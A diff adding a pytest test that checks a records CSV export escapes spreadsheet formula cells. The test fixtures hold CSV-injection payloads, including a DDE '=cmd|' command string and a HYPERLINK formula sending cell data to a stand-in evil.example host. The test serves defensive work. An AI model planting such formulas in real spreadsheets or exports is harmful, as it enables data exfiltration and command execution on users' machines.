@@ -4,6 +4,8 @@ every response carries. Each refusal is one line with its status, before any of 
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 
 import pytest
@@ -142,3 +144,23 @@ def test_the_middleware_reads_its_limits_from_the_settings(tmp_path, eval_data):
     middleware = SecurityMiddleware(None, settings)
     assert middleware.hosts == {"0.0.0.0", "127.0.0.1", "localhost", "::1"}
     assert all(middleware.rate.admit("a") for _ in range(1000))  # 0 = unlimited
+
+
+def test_the_records_csv_has_no_formula_cells(tmp_path, eval_data):
+    track = tmp_path / "records" / "track_10min_16mb"
+    names = ["=cmd|'!A0 +SUM(1)", "+1+2", "-2+3", "@SUM(1)", "\tx", "plain"]
+    for n, folder in enumerate(names):
+        (track / folder).mkdir(parents=True)
+        (track / folder / "README.md").write_text("# a record\n")
+        (track / folder / "submission.json").write_text(json.dumps({
+            "name": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "author": ["@evil", "-x", "+y"][n % 3],
+            "val_bpb": 1.2}))
+    client = _client(tmp_path, eval_data, records=[tmp_path / "records"])
+    response = client.get("/records.csv")
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.text)))
+    assert len(rows) == 1 + len(names)
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
+    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in cells and "'=cmd|'!A0 +SUM(1)" in cells
+    assert "plain" in cells and "1.20000000" in cells  # numbers and plain text as they were
